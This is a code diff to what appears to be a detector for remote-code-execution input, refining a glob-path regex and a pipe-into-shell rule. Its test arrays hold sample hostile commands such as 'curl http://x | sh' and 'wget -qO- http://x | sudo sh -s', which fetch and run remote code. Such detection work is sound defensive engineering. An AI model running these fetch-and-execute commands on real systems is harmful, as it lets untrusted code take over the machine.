@@ -1,7 +1,7 @@
 import { CHAR } from '../features.ts'
 import { ShellCommandLexer } from '../lex/shell-command.ts'
 import type { Reading } from '../reading.ts'
-import { pattern, type Rule, type Span } from '../rule.ts'
+import { needsOneOf, pattern, type Rule, type Span } from '../rule.ts'
 import { WORD } from '../words.ts'
 
 const shell = new ShellCommandLexer()
@@ -99,7 +99,7 @@ export const rceRules: readonly Rule[] = [
   },
   pattern(
     'rce/glob',
-    /(?:^|[\s;|&`(<])\/\w{0,4}[?[][\w?*[\]]{0,8}\/[\w?*[\]]{1,16}(?:[\s;|&`)]|$)|(?:^|[\s=])\/(?:\w{1,8}\/){0,3}\w{0,4}\[[!^\w/]{1,8}\]\w/,
+    /(?:^|[\s;|&`(<])\/(?!\[[a-z_]\w{1,24}\]\/[\w-]{2,16}(?:$|\s))\w{0,4}[?[][\w?*[\]]{0,8}\/[\w?*[\]]{1,16}(?:[\s;|&`)]|$)|(?:^|[\s=])\/(?:\w{1,8}\/){0,3}\w{0,4}\[[!^\w/]{1,8}\]\w/,
     {
       score: 5,
       bare: true,
@@ -195,6 +195,7 @@ export const rceRules: readonly Rule[] = [
     bare: true,
     chars: CHAR.pipe,
     words: WORD.shell,
+    ...needsOneOf(/\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh/),
     find: findPipeIntoShell,
     attacks: ['curl http://x | sh', 'x | bash', 'wget -qO- http://x | sudo sh -s'],
     benign: ['the | shell', 'curl x | less', 'curl x\nls | sh -c a'],
